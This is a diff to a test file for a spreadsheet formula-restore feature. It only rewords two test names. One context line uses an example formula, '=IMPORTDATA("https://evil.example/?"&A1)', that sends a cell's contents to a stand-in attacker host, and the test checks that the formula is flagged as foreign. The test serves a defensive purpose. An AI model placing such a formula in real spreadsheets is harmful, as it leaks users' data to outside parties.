@@ -78,7 +78,7 @@ it('a formula that someone else wrote into the list does not come back', () => {
   expect(reasons([line(cell(0), '=IMPORTDATA("https://evil.example/?"&A1)')])).toEqual(['Leads!B1 foreign']);
 });
 
-it('a row that nobody can read is named by its place in the list, and a blank one is nothing', () => {
+it('an unreadable row is named by its place in the list, and a blank one is ignored', () => {
   expect(reasons([['', '', '', '', '', ''], ['mine'], line(cell(0))])).toEqual(['Trace formulas!A3 unreadable']);
 });
 
@@ -87,7 +87,7 @@ it('an extent of more than a million cells takes no time', () => {
   expect(reasons([[sheet!, 'B1:XFD1048576', ...rest]])).toEqual(['Trace formulas!A2 unreadable']);
 });
 
-it('of formulas over the same cells the latest comes back', () => {
+it('of several formulas over the same cells, the latest is restored', () => {
   const lines = [line(cell(1, 1, 2, 1), '=TRACE_TECH(A2:A3)'), line(cell(2))];
   expect(planRestore(lines, [LEADS]).restore.map(({ place }) => place)).toEqual(['Leads!B3']);
   expect(reasons(lines)).toEqual(['Leads!B2 changed']);
